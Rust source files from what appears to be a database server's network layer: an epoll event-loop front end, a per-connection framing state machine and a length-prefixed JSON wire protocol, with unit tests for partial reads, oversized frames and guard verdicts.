        Some(params) => dbms.execute_prepared(&q.sql, params),
        None => dbms.execute(&q.sql),
    };
    Response::from_outcome(&outcome)
}

/// A running event-loop front end. Dropping the handle shuts it down
/// and joins every thread.
pub struct EventLoopHandle {
    addr: SocketAddr,
    shared: Arc<EvShared>,
    reactors: Vec<JoinHandle<()>>,
    workers: Vec<JoinHandle<()>>,
}

impl std::fmt::Debug for EventLoopHandle {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("EventLoopHandle")
            .field("addr", &self.addr)
            .field("active", &self.active_connections())
            .field("reactors", &self.reactors.len())
            .field("workers", &self.workers.len())
            .finish_non_exhaustive()
    }
}

impl EventLoopHandle {
    /// The bound address (useful with port 0).
    #[must_use]
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// Connections currently registered across all shards.
    #[must_use]
    pub fn active_connections(&self) -> u64 {
        self.shared.active.load(Ordering::SeqCst)
    }

    /// The dbms server this front end serves.
    #[must_use]
    pub fn server(&self) -> &Arc<Server> {
        &self.shared.server
    }

    /// Threads this front end runs: reactors + workers. Fixed at serve
    /// time — connection count does not change it, which is the point.
    #[must_use]
    pub fn thread_count(&self) -> usize {
        self.reactors.len() + self.workers.len()
    }

    /// Stops the reactors (closing every connection) and joins all
    /// threads. In-flight queries finish; their responses are dropped.
    pub fn shutdown(mut self) {
        self.shutdown_inner();
    }

    fn shutdown_inner(&mut self) {
        if self.shared.shutting_down.swap(true, Ordering::SeqCst) {
            return;
        }
        for shard in &self.shared.shards {
            shard.waker.wake();
        }
        // Reactors exit and drop their job senders; once the channel
        // disconnects, workers' recv() fails and they exit too.
        for r in self.reactors.drain(..) {
            let _ = r.join();
        }
        for w in self.workers.drain(..) {
            let _ = w.join();
        }
    }
}

impl Drop for EventLoopHandle {
    fn drop(&mut self) {
        self.shutdown_inner();
    }
}

/// Binds the epoll-driven front end for `server` on `addr`.
///
/// # Errors
///
/// The bind failure, or [`io::ErrorKind::Unsupported`] off Linux
/// (callers fall back to [`crate::serve`]).
pub fn serve_event_loop(
    server: Arc<Server>,
    addr: impl ToSocketAddrs,
    config: NetServerConfig,
) -> io::Result<EventLoopHandle> {
    let listener = TcpListener::bind(addr)?;
    listener.set_nonblocking(true)?;
    let addr = listener.local_addr()?;

    let reactor_count = if config.reactors == 0 {
        thread::available_parallelism().map_or(1, std::num::NonZeroUsize::get)
    } else {
        config.reactors
    };
    let worker_count = config.workers.max(1);

    let metrics = NetMetrics::register(&server);
    let mut pollers = Vec::with_capacity(reactor_count);
    let mut shards = Vec::with_capacity(reactor_count);
    for _ in 0..reactor_count {
        let poller = Poller::new()?; // `Unsupported` off Linux
        let waker = Waker::new(&poller, TOKEN_WAKER)?;
        let shard_listener = listener.try_clone()?;
        // EPOLLEXCLUSIVE: each pending accept wakes one shard, not all.
        poller.register(
            &shard_listener,
            TOKEN_LISTENER,
            INTEREST_READ,
            reactor_count > 1,
        )?;
        pollers.push((poller, shard_listener));
        shards.push(ShardHandle {
            commands: Mutex::new(Vec::new()),
            waker,
        });
    }

    let shared = Arc::new(EvShared {
        server,
        config,
        metrics,
        shutting_down: AtomicBool::new(false),
        active: AtomicU64::new(0),
        shards,
    });

    let (tx, rx) = mpsc::sync_channel::<Job>(shared.config.accept_queue.max(worker_count));
    let rx = Arc::new(Mutex::new(rx));

    let mut reactors = Vec::with_capacity(reactor_count);
    for (shard, (poller, shard_listener)) in pollers.into_iter().enumerate() {
        let shared = Arc::clone(&shared);
        let jobs = tx.clone();
        let now = Instant::now();
        reactors.push(
            thread::Builder::new()
                .name(format!("septic-net-reactor-{shard}"))
                .spawn(move || {
                    Reactor {
                        shard,
                        poller,
                        listener: shard_listener,
                        slab: Slab::new(),
                        wheel: TimerWheel::new(now),
                        shared,
                        jobs,
                        accept_errors_in_row: 0,
                        accept_resume: None,
                    }
                    .run();
                })?,
        );
    }
    drop(tx); // reactors hold the only senders: channel dies with them

    let mut workers = Vec::with_capacity(worker_count);
    for i in 0..worker_count {
        let shared = Arc::clone(&shared);
        let rx = Arc::clone(&rx);
        workers.push(
            thread::Builder::new()
                .name(format!("septic-net-exec-{i}"))
                .spawn(move || worker_loop(&shared, &rx))?,
        );
    }

    Ok(EventLoopHandle {
        addr,
        shared,
        reactors,
        workers,
    })
}

#[cfg(all(test, target_os = "linux"))]
mod tests {
    use super::*;
    use crate::client::NetClient;

    fn deployment() -> Arc<Server> {
        let server = Server::new();
        let conn = server.connect();
        conn.execute("CREATE TABLE kv (k VARCHAR(64), v VARCHAR(64))")
            .expect("create");
        let septic = Arc::new(septic::Septic::new());
        server.install_guard(septic.clone());
        septic.set_mode(septic::Mode::Training);
        conn.execute("SELECT v FROM kv WHERE k = 'seed'")
            .expect("train");
        septic.set_mode(septic::Mode::PREVENTION);
        server
    }

    #[test]
    fn serves_queries_and_reports_fixed_threads() {
        let server = deployment();
        let handle = serve_event_loop(
            server,
            "127.0.0.1:0",
            NetServerConfig {
                reactors: 2,
                workers: 2,
                ..NetServerConfig::default()
            },
        )
        .expect("serve");
        assert_eq!(handle.thread_count(), 4);
        let mut client = NetClient::connect(handle.addr()).expect("connect");
        let res = client
            .query("SELECT v FROM kv WHERE k = 'seed'")
            .expect("query");
        assert_eq!(res.outputs.len(), 1);
        client.ping().expect("ping");
        drop(client);
        handle.shutdown();
    }

    #[test]
    fn timer_wheel_pops_entries_after_their_tick() {
        let t0 = Instant::now();
        let mut wheel = TimerWheel::new(t0);
        wheel.insert(42, t0 + Duration::from_millis(30));
        let mut out = Vec::new();
        wheel.advance(t0 + Duration::from_millis(10), &mut out);
        assert!(out.is_empty(), "not due inside the first tick");
        wheel.advance(t0 + Duration::from_millis(80), &mut out);
        assert_eq!(out, vec![42]);
    }

    #[test]
    fn slab_generations_invalidate_stale_tokens() {
        let mut slab = Slab::new();
        let server = Server::new();
        let mk = || {
            let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
            let _client = TcpStream::connect(listener.local_addr().unwrap()).unwrap();
            let (s, _) = listener.accept().unwrap();
            Arc::new(Mutex::new(Conn::new(s, server.connect(), Instant::now())))
        };
        let first = slab.insert(mk());
        assert!(slab.get(first).is_some());
        slab.remove(first).expect("present");
        // The slot is reused with a new generation: the old token is dead.
        let second = slab.insert(mk());
        assert_ne!(first, second);
        assert!(slab.get(first).is_none(), "stale token must not resolve");
        assert!(slab.get(second).is_some());
    }
}
