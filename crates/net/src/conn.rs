//! Per-connection state machine for the event-loop front end.
//!
//! Each connection is a tiny explicit state machine instead of a thread:
//!
//! ```text
//! ReadHeader ──4 bytes──▶ ReadPayload ──full frame──▶ pending queue
//!      ▲                                                   │ (bounded MPSC)
//!      │                                                   ▼
//!   WriteQueue ◀──encoded responses── Handle (dbms worker pool)
//! ```
//!
//! The reactor owns socket readiness and framing; a worker executes the
//! query and queues (or, when the socket is free, writes directly) the
//! response bytes. All mutation happens under the connection's own lock —
//! held only for buffer shuffling, never across a read, a write wait, or
//! query execution — so an idle connection costs this struct plus two
//! small buffers: a few hundred bytes, not a thread.

use std::collections::VecDeque;
use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::time::Instant;

use crate::frame::{FrameError, Request, FRAME_HEADER_LEN};

/// Reading position inside the current frame.
#[derive(Debug)]
pub(crate) enum ReadState {
    /// Collecting the 4-byte big-endian length prefix.
    Header {
        buf: [u8; FRAME_HEADER_LEN],
        got: usize,
    },
    /// Collecting `buf.len()` payload bytes.
    Payload { buf: Vec<u8>, got: usize },
}

impl ReadState {
    fn new() -> ReadState {
        ReadState::Header {
            buf: [0; FRAME_HEADER_LEN],
            got: 0,
        }
    }

    /// True when any byte of an unfinished frame has arrived — a
    /// half-sent frame (slowloris) rather than a quiet keep-alive.
    #[cfg(test)]
    fn mid_frame(&self) -> bool {
        match self {
            ReadState::Header { got, .. } => *got > 0,
            ReadState::Payload { .. } => true,
        }
    }
}

/// What one readiness-driven read pass produced.
#[derive(Debug)]
pub(crate) enum ReadPass {
    /// Socket drained for now; `frames` complete requests arrived.
    Progress {
        frames: Vec<Request>,
        any_bytes: bool,
    },
    /// Peer closed cleanly at a frame boundary (after yielding `frames`).
    Closed { frames: Vec<Request> },
    /// Framing/decoding failed; connection must be torn down after the
    /// error frame is flushed.
    Broken(FrameError),
}

/// One live connection: socket, dbms session, frame cursor, write queue.
pub(crate) struct Conn {
    pub(crate) stream: TcpStream,
    /// The server-side session this connection executes under.
    pub(crate) dbms: septic_dbms::Connection,
    read: ReadState,
    /// Encoded response bytes not yet accepted by the socket.
    out: Vec<u8>,
    /// Bytes of `out` already written.
    out_pos: usize,
    /// Parsed requests awaiting a worker, in arrival order.
    pub(crate) pending: VecDeque<Request>,
    /// A worker currently owns this connection's request stream.
    pub(crate) busy: bool,
    /// Reading is paused because `pending` hit the pipelining cap.
    pub(crate) paused: bool,
    /// EPOLLOUT is armed for this connection.
    pub(crate) want_write: bool,
    /// Torn down: late worker completions must drop their output.
    pub(crate) closed: bool,
    /// Close once the write queue drains (error/shed replies).
    pub(crate) close_after_flush: bool,
    /// Idle/slowloris deadline; pushed forward on any progress.
    pub(crate) deadline: Instant,
}

impl Conn {
    pub(crate) fn new(stream: TcpStream, dbms: septic_dbms::Connection, deadline: Instant) -> Conn {
        Conn {
            stream,
            dbms,
            read: ReadState::new(),
            out: Vec::new(),
            out_pos: 0,
            pending: VecDeque::new(),
            busy: false,
            paused: false,
            want_write: false,
            closed: false,
            close_after_flush: false,
            deadline,
        }
    }

    /// True when the read cursor sits inside an unfinished frame —
    /// test-only introspection for the partial-read scenarios.
    #[cfg(test)]
    pub(crate) fn mid_frame(&self) -> bool {
        self.read.mid_frame()
    }

    /// Drives the read side until the socket runs dry, decoding as many
    /// complete frames as arrive. Never blocks: the stream is
    /// nonblocking and `WouldBlock` ends the pass.
    pub(crate) fn read_pass(&mut self, max_frame_len: u32, max_frames: usize) -> ReadPass {
        let mut frames = Vec::new();
        let mut any_bytes = false;
        loop {
            if frames.len() >= max_frames {
                // Pipelining cap: leave the rest in the socket buffer;
                // the caller pauses read interest until a worker drains
                // the pending queue.
                return ReadPass::Progress { frames, any_bytes };
            }
            match &mut self.read {
                ReadState::Header { buf, got } => {
                    let span = *got..FRAME_HEADER_LEN;
                    match self.stream.read(&mut buf[span]) {
                        Ok(0) => {
                            return if *got == 0 {
                                ReadPass::Closed { frames }
                            } else {
                                ReadPass::Broken(FrameError::Io(io::Error::new(
                                    io::ErrorKind::UnexpectedEof,
                                    "disconnect inside frame header",
                                )))
                            };
                        }
                        Ok(n) => {
                            any_bytes = true;
                            *got += n;
                            if *got == FRAME_HEADER_LEN {
                                let len = u32::from_be_bytes(*buf);
                                if len > max_frame_len {
                                    return ReadPass::Broken(FrameError::Oversized {
                                        len,
                                        max: max_frame_len,
                                    });
                                }
                                self.read = ReadState::Payload {
                                    buf: vec![0; len as usize],
                                    got: 0,
                                };
                            }
                        }
                        Err(e) if e.kind() == io::ErrorKind::WouldBlock => {
                            return ReadPass::Progress { frames, any_bytes };
                        }
                        Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                        Err(e) => return ReadPass::Broken(FrameError::Io(e)),
                    }
                }
                ReadState::Payload { buf, got } => {
                    if *got == buf.len() {
                        // Zero-length payload: decode immediately.
                        match decode(buf) {
                            Ok(req) => {
                                frames.push(req);
                                self.read = ReadState::new();
                                continue;
                            }
                            Err(e) => return ReadPass::Broken(e),
                        }
                    }
                    let span = *got..buf.len();
                    match self.stream.read(&mut buf[span]) {
                        Ok(0) => {
                            return ReadPass::Broken(FrameError::Io(io::Error::new(
                                io::ErrorKind::UnexpectedEof,
                                "disconnect inside frame payload",
                            )));
                        }
                        Ok(n) => {
                            any_bytes = true;
                            *got += n;
                            if *got == buf.len() {
                                match decode(buf) {
                                    Ok(req) => {
                                        frames.push(req);
                                        self.read = ReadState::new();
                                    }
                                    Err(e) => return ReadPass::Broken(e),
                                }
                            }
                        }
                        Err(e) if e.kind() == io::ErrorKind::WouldBlock => {
                            return ReadPass::Progress { frames, any_bytes };
                        }
                        Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                        Err(e) => return ReadPass::Broken(FrameError::Io(e)),
                    }
                }
            }
        }
    }

    /// Appends encoded frame bytes to the write queue.
    pub(crate) fn queue_bytes(&mut self, bytes: &[u8]) {
        self.out.extend_from_slice(bytes);
    }

    /// Pushes queued bytes into the socket until it refuses more.
    /// Returns `Ok(true)` when the queue drained completely.
    pub(crate) fn flush(&mut self) -> io::Result<bool> {
        while self.out_pos < self.out.len() {
            match self.stream.write(&self.out[self.out_pos..]) {
                Ok(0) => {
                    return Err(io::Error::new(
                        io::ErrorKind::WriteZero,
                        "socket accepted zero bytes",
                    ))
                }
                Ok(n) => self.out_pos += n,
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => return Ok(false),
                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                Err(e) => return Err(e),
            }
        }
        self.out.clear();
        self.out_pos = 0;
        Ok(true)
    }

    /// Unwritten bytes still queued.
    pub(crate) fn backlog(&self) -> usize {
        self.out.len() - self.out_pos
    }
}

fn decode(payload: &[u8]) -> Result<Request, FrameError> {
    let text = std::str::from_utf8(payload)
        .map_err(|e| FrameError::Decode(format!("payload is not UTF-8: {e}")))?;
    serde_json::from_str(text).map_err(|e| FrameError::Decode(e.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::frame::{write_frame, DEFAULT_MAX_FRAME_LEN};
    use std::net::TcpListener;

    fn pair() -> (TcpStream, Conn) {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let client = TcpStream::connect(listener.local_addr().unwrap()).unwrap();
        let (server_side, _) = listener.accept().unwrap();
        server_side.set_nonblocking(true).unwrap();
        let dbms = septic_dbms::Server::new().connect();
        let conn = Conn::new(server_side, dbms, Instant::now());
        (client, conn)
    }

    #[test]
    fn frames_assemble_across_partial_reads() {
        let (mut client, mut conn) = pair();
        let mut bytes = Vec::new();
        write_frame(&mut bytes, &Request::Ping, DEFAULT_MAX_FRAME_LEN).unwrap();

        // First half of the frame: progress, no complete request yet.
        client.write_all(&bytes[..3]).unwrap();
        client.flush().unwrap();
        std::thread::sleep(std::time::Duration::from_millis(20));
        match conn.read_pass(DEFAULT_MAX_FRAME_LEN, 32) {
            ReadPass::Progress { frames, any_bytes } => {
                assert!(frames.is_empty());
                assert!(any_bytes);
                assert!(conn.mid_frame(), "a half-read header is mid-frame");
            }
            other => panic!("expected progress, got {other:?}"),
        }

        // Remainder: the frame completes.
        client.write_all(&bytes[3..]).unwrap();
        client.flush().unwrap();
        std::thread::sleep(std::time::Duration::from_millis(20));
        match conn.read_pass(DEFAULT_MAX_FRAME_LEN, 32) {
            ReadPass::Progress { frames, .. } => {
                assert_eq!(frames.len(), 1);
                assert!(matches!(frames[0], Request::Ping));
                assert!(!conn.mid_frame());
            }
            other => panic!("expected progress, got {other:?}"),
        }
    }

    #[test]
    fn pipelined_frames_arrive_in_order_up_to_the_cap() {
        let (mut client, mut conn) = pair();
        for i in 0..5u32 {
            write_frame(
                &mut client,
                &Request::Query(crate::frame::QueryRequest {
                    sql: format!("SELECT {i}"),
                    params: None,
                }),
                DEFAULT_MAX_FRAME_LEN,
            )
            .unwrap();
        }
        std::thread::sleep(std::time::Duration::from_millis(30));
        // Cap of 3: one pass yields exactly three frames, in order.
        let ReadPass::Progress { frames, .. } = conn.read_pass(DEFAULT_MAX_FRAME_LEN, 3) else {
            panic!("expected progress");
        };
        let texts: Vec<String> = frames
            .iter()
            .map(|f| match f {
                Request::Query(q) => q.sql.clone(),
                other => panic!("unexpected {other:?}"),
            })
            .collect();
        assert_eq!(texts, vec!["SELECT 0", "SELECT 1", "SELECT 2"]);
        // The rest are still in the socket, readable on the next pass.
        let ReadPass::Progress { frames, .. } = conn.read_pass(DEFAULT_MAX_FRAME_LEN, 32) else {
            panic!("expected progress");
        };
        assert_eq!(frames.len(), 2);
    }

    #[test]
    fn oversized_and_garbage_frames_break_the_connection() {
        let (mut client, mut conn) = pair();
        client.write_all(&u32::MAX.to_be_bytes()).unwrap();
        std::thread::sleep(std::time::Duration::from_millis(20));
        assert!(matches!(
            conn.read_pass(1024, 32),
            ReadPass::Broken(FrameError::Oversized { .. })
        ));

        let (mut client, mut conn) = pair();
        let garbage = b"\x00\xffnope";
        client
            .write_all(&(garbage.len() as u32).to_be_bytes())
            .unwrap();
        client.write_all(garbage).unwrap();
        std::thread::sleep(std::time::Duration::from_millis(20));
        assert!(matches!(
            conn.read_pass(1024, 32),
            ReadPass::Broken(FrameError::Decode(_))
        ));
    }

    #[test]
    fn clean_close_vs_mid_frame_close() {
        let (client, mut conn) = pair();
        drop(client);
        std::thread::sleep(std::time::Duration::from_millis(20));
        assert!(matches!(conn.read_pass(1024, 32), ReadPass::Closed { .. }));

        let (mut client, mut conn) = pair();
        client.write_all(&[0u8, 0]).unwrap(); // half a header
        drop(client);
        std::thread::sleep(std::time::Duration::from_millis(20));
        assert!(matches!(
            conn.read_pass(1024, 32),
            ReadPass::Broken(FrameError::Io(_))
        ));
    }

    #[test]
    fn write_queue_flushes_and_reports_backlog() {
        let (mut client, mut conn) = pair();
        conn.queue_bytes(b"hello ");
        conn.queue_bytes(b"world");
        assert_eq!(conn.backlog(), 11);
        assert!(conn.flush().unwrap());
        assert_eq!(conn.backlog(), 0);
        let mut buf = [0u8; 11];
        client.read_exact(&mut buf).unwrap();
        assert_eq!(&buf, b"hello world");
    }
}
