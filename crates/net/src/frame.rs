//! The wire format: length-prefixed JSON frames.
//!
//! A frame is a 4-byte big-endian payload length followed by that many
//! bytes of JSON. The length prefix is the *entire* framing — no magic,
//! no checksum — so a malformed or hostile peer can at worst make one
//! connection's decode fail; the decode error is counted, reported and
//! the connection closed. The declared length is checked against the
//! configured maximum *before* any payload byte is read, so an oversized
//! frame never causes an allocation proportional to attacker input.

use std::io::{self, Read, Write};

use septic_dbms::{DbError, ExecResult, QueryOutput, Value};
use serde::{Deserialize, Serialize};

/// Protocol version carried in `Request::Hello`.
pub const PROTOCOL_VERSION: u32 = 1;

/// Bytes of the frame header (big-endian payload length).
pub const FRAME_HEADER_LEN: usize = 4;

/// Default cap on a single frame's payload, bytes.
pub const DEFAULT_MAX_FRAME_LEN: u32 = 256 * 1024;

/// One query to execute: SQL text plus optional server-side-bound
/// parameters (`?` placeholders).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct QueryRequest {
    /// The SQL text.
    pub sql: String,
    /// Parameters for `?` placeholders; `None` means plain execution
    /// (a `Some` with an empty vector still takes the prepared path,
    /// which rejects stacked statements).
    pub params: Option<Vec<Value>>,
}

/// Per-session options, sent with `Request::Hello` as the first frame.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct SessionOpts {
    /// Free-form label surfaced in errors/logs (e.g. the app name).
    pub label: Option<String>,
}

/// A client→server frame.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Request {
    /// Optional first frame: protocol version + session options.
    Hello {
        /// Client's [`PROTOCOL_VERSION`].
        version: u32,
        /// Session options.
        opts: SessionOpts,
    },
    /// Execute one query.
    Query(QueryRequest),
    /// Pipelined batch: the server answers with one `Response` per
    /// query, in order. Bounded by the server's pipelining limit.
    Batch(Vec<QueryRequest>),
    /// Liveness probe.
    Ping,
}

/// One statement's result set, the wire mirror of
/// [`septic_dbms::QueryOutput`].
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct WireOutput {
    /// Column labels (SELECT only).
    pub columns: Vec<String>,
    /// Result rows (SELECT only).
    pub rows: Vec<Vec<Value>>,
    /// Rows affected (INSERT/UPDATE/DELETE).
    pub affected: u64,
    /// `AUTO_INCREMENT` id of the last inserted row.
    pub last_insert_id: Option<i64>,
}

impl From<&QueryOutput> for WireOutput {
    fn from(out: &QueryOutput) -> Self {
        WireOutput {
            columns: out.columns.clone(),
            rows: out.rows.clone(),
            affected: out.affected as u64,
            last_insert_id: out.last_insert_id,
        }
    }
}

impl WireOutput {
    /// First cell of the first row, if any.
    #[must_use]
    pub fn scalar(&self) -> Option<&Value> {
        self.rows.first().and_then(|r| r.first())
    }
}

/// A successful execution: outputs per statement plus timing, the wire
/// mirror of [`septic_dbms::ExecResult`].
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct WireResult {
    /// Output per executed statement, in order.
    pub outputs: Vec<WireOutput>,
    /// Wall-clock pipeline time, microseconds.
    pub elapsed_us: u64,
    /// Simulated (`SLEEP`/`BENCHMARK`) delay, microseconds — added to
    /// `elapsed_us` it gives the client-observed latency.
    pub simulated_us: u64,
}

impl From<&ExecResult> for WireResult {
    fn from(res: &ExecResult) -> Self {
        WireResult {
            outputs: res.outputs.iter().map(WireOutput::from).collect(),
            elapsed_us: septic_telemetry::saturating_micros(res.elapsed),
            simulated_us: septic_telemetry::saturating_micros(res.simulated_delay),
        }
    }
}

impl WireResult {
    /// The last statement's output, if any.
    #[must_use]
    pub fn last(&self) -> Option<&WireOutput> {
        self.outputs.last()
    }

    /// Client-observed latency, microseconds (wall + simulated).
    #[must_use]
    pub fn observed_us(&self) -> u64 {
        self.elapsed_us.saturating_add(self.simulated_us)
    }
}

/// A server→client frame.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Response {
    /// Answer to `Request::Hello`.
    Hello {
        /// Server's [`PROTOCOL_VERSION`].
        version: u32,
    },
    /// The query executed; here is the result set.
    Result(WireResult),
    /// SEPTIC verdict: the guard flagged the query as an attack and the
    /// server dropped it. Carries the guard's reason (attack class +
    /// query id).
    Blocked {
        /// The guard's verdict string.
        reason: String,
    },
    /// The guard itself failed and its policy is fail-closed: a defense
    /// *outage*, not a detection.
    GuardFailure {
        /// What went wrong inside the guard.
        reason: String,
    },
    /// Any other pipeline error (parse, validation, constraint,
    /// runtime).
    Error {
        /// The error message.
        message: String,
    },
    /// Admission-control reject: the server refuses the work *now*
    /// rather than queueing it unboundedly. Sent when the accept queue
    /// is full or a batch exceeds the pipelining limit.
    ServerBusy {
        /// Why the request was refused.
        reason: String,
    },
    /// Answer to `Request::Ping`.
    Pong,
}

impl Response {
    /// Maps a pipeline outcome onto the wire.
    #[must_use]
    pub fn from_outcome(outcome: &Result<ExecResult, DbError>) -> Response {
        match outcome {
            Ok(res) => Response::Result(WireResult::from(res)),
            Err(DbError::Blocked(reason)) => Response::Blocked {
                reason: reason.clone(),
            },
            Err(DbError::GuardFailure(reason)) => Response::GuardFailure {
                reason: reason.clone(),
            },
            Err(e) => Response::Error {
                message: e.to_string(),
            },
        }
    }
}

/// Why a frame could not be read.
#[derive(Debug)]
pub enum FrameError {
    /// The peer closed the connection cleanly at a frame boundary.
    Closed,
    /// I/O failure — mid-frame disconnect, read timeout (slowloris), …
    Io(io::Error),
    /// The declared payload length exceeds the configured maximum. No
    /// payload bytes were read; the connection cannot be resynchronized
    /// and must be closed.
    Oversized {
        /// Declared payload length.
        len: u32,
        /// Configured maximum.
        max: u32,
    },
    /// The payload was read in full but is not valid JSON for the
    /// expected type. Framing is intact, so the connection *could*
    /// continue; the server still closes it (a peer this confused is
    /// not worth resynchronizing with).
    Decode(String),
}

impl std::fmt::Display for FrameError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            FrameError::Closed => write!(f, "connection closed"),
            FrameError::Io(e) => write!(f, "i/o error: {e}"),
            FrameError::Oversized { len, max } => {
                write!(f, "oversized frame: {len} bytes declared, max {max}")
            }
            FrameError::Decode(e) => write!(f, "frame decode error: {e}"),
        }
    }
}

impl std::error::Error for FrameError {}

impl From<io::Error> for FrameError {
    fn from(e: io::Error) -> Self {
        FrameError::Io(e)
    }
}

impl FrameError {
    /// True when the error is a read timeout (the slowloris defense
    /// firing), as opposed to a disconnect or malformed frame.
    #[must_use]
    pub fn is_timeout(&self) -> bool {
        matches!(
            self,
            FrameError::Io(e) if e.kind() == io::ErrorKind::WouldBlock
                || e.kind() == io::ErrorKind::TimedOut
        )
    }
}

/// Serializes `msg` as one frame onto `w`.
///
/// # Errors
///
/// I/O errors from the writer; an encoding larger than `max_len` is
/// reported as `InvalidData` (the caller's payload is at fault, not the
/// peer).
pub fn write_frame<W: Write, T: Serialize>(w: &mut W, msg: &T, max_len: u32) -> io::Result<()> {
    let payload = serde_json::to_string(msg)
        .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))?
        .into_bytes();
    let len = u32::try_from(payload.len())
        .map_err(|_| io::Error::new(io::ErrorKind::InvalidData, "frame too large for u32"))?;
    if len > max_len {
        return Err(io::Error::new(
            io::ErrorKind::InvalidData,
            format!("frame of {len} bytes exceeds max {max_len}"),
        ));
    }
    w.write_all(&len.to_be_bytes())?;
    w.write_all(&payload)?;
    w.flush()
}

/// Reads one frame from `r` and decodes it as `T`.
///
/// A clean EOF *at a frame boundary* (zero header bytes read) is
/// [`FrameError::Closed`]; an EOF inside the header or payload is the
/// mid-frame disconnect case and surfaces as [`FrameError::Io`].
///
/// # Errors
///
/// See [`FrameError`].
pub fn read_frame<R: Read, T: Deserialize>(r: &mut R, max_len: u32) -> Result<T, FrameError> {
    let mut header = [0u8; FRAME_HEADER_LEN];
    let mut got = 0;
    while got < FRAME_HEADER_LEN {
        match r.read(&mut header[got..]) {
            Ok(0) if got == 0 => return Err(FrameError::Closed),
            Ok(0) => {
                return Err(FrameError::Io(io::Error::new(
                    io::ErrorKind::UnexpectedEof,
                    "disconnect inside frame header",
                )))
            }
            Ok(n) => got += n,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
            Err(e) => return Err(FrameError::Io(e)),
        }
    }
    let len = u32::from_be_bytes(header);
    if len > max_len {
        return Err(FrameError::Oversized { len, max: max_len });
    }
    let mut payload = vec![0u8; len as usize];
    r.read_exact(&mut payload).map_err(|e| {
        if e.kind() == io::ErrorKind::UnexpectedEof {
            FrameError::Io(io::Error::new(
                io::ErrorKind::UnexpectedEof,
                "disconnect inside frame payload",
            ))
        } else {
            FrameError::Io(e)
        }
    })?;
    let text = std::str::from_utf8(&payload)
        .map_err(|e| FrameError::Decode(format!("payload is not UTF-8: {e}")))?;
    serde_json::from_str(text).map_err(|e| FrameError::Decode(e.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Cursor;

    #[test]
    fn frames_round_trip() {
        let mut buf = Vec::new();
        let req = Request::Query(QueryRequest {
            sql: "SELECT 1".into(),
            params: Some(vec![Value::Int(7), Value::from("x")]),
        });
        write_frame(&mut buf, &req, DEFAULT_MAX_FRAME_LEN).unwrap();
        let back: Request = read_frame(&mut Cursor::new(&buf), DEFAULT_MAX_FRAME_LEN).unwrap();
        assert_eq!(back, req);
    }

    #[test]
    fn several_frames_in_one_stream() {
        let mut buf = Vec::new();
        write_frame(&mut buf, &Request::Ping, DEFAULT_MAX_FRAME_LEN).unwrap();
        write_frame(
            &mut buf,
            &Request::Hello {
                version: PROTOCOL_VERSION,
                opts: SessionOpts::default(),
            },
            DEFAULT_MAX_FRAME_LEN,
        )
        .unwrap();
        let mut cur = Cursor::new(&buf);
        let a: Request = read_frame(&mut cur, DEFAULT_MAX_FRAME_LEN).unwrap();
        let b: Request = read_frame(&mut cur, DEFAULT_MAX_FRAME_LEN).unwrap();
        assert_eq!(a, Request::Ping);
        assert!(matches!(b, Request::Hello { version: 1, .. }));
    }

    #[test]
    fn clean_eof_is_closed_mid_frame_eof_is_io() {
        let empty: &[u8] = &[];
        let err = read_frame::<_, Request>(&mut Cursor::new(empty), 1024).unwrap_err();
        assert!(matches!(err, FrameError::Closed));

        // Header present, payload truncated: the mid-frame disconnect.
        let mut buf = Vec::new();
        write_frame(&mut buf, &Request::Ping, 1024).unwrap();
        buf.truncate(buf.len() - 2);
        let err = read_frame::<_, Request>(&mut Cursor::new(&buf), 1024).unwrap_err();
        assert!(matches!(err, FrameError::Io(_)), "{err}");

        // Partial header only.
        let err = read_frame::<_, Request>(&mut Cursor::new(&[0u8, 0][..]), 1024).unwrap_err();
        assert!(matches!(err, FrameError::Io(_)), "{err}");
    }

    #[test]
    fn oversized_frames_are_rejected_before_allocation() {
        let mut buf = Vec::new();
        buf.extend_from_slice(&u32::MAX.to_be_bytes());
        let err = read_frame::<_, Request>(&mut Cursor::new(&buf), 1024).unwrap_err();
        assert!(matches!(
            err,
            FrameError::Oversized {
                len: u32::MAX,
                max: 1024
            }
        ));
        // Writing an oversized frame is the writer's own error.
        let big = Request::Query(QueryRequest {
            sql: "x".repeat(4096),
            params: None,
        });
        assert!(write_frame(&mut Vec::new(), &big, 16).is_err());
    }

    #[test]
    fn decode_errors_are_distinguished() {
        let mut buf = Vec::new();
        let payload = b"not json";
        buf.extend_from_slice(&(payload.len() as u32).to_be_bytes());
        buf.extend_from_slice(payload);
        let err = read_frame::<_, Request>(&mut Cursor::new(&buf), 1024).unwrap_err();
        assert!(matches!(err, FrameError::Decode(_)));
    }

    #[test]
    fn outcome_mapping_preserves_the_verdict() {
        let blocked: Result<ExecResult, DbError> = Err(DbError::Blocked("SQLI [tautology]".into()));
        assert!(matches!(
            Response::from_outcome(&blocked),
            Response::Blocked { reason } if reason.contains("tautology")
        ));
        let outage: Result<ExecResult, DbError> = Err(DbError::GuardFailure("panicked".into()));
        assert!(matches!(
            Response::from_outcome(&outage),
            Response::GuardFailure { .. }
        ));
        let parse: Result<ExecResult, DbError> = Err(DbError::Semantic("nope".into()));
        assert!(matches!(
            Response::from_outcome(&parse),
            Response::Error { .. }
        ));
    }
}
