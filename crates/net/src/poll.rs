//! A minimal epoll poller — the readiness layer under the event loop.
//!
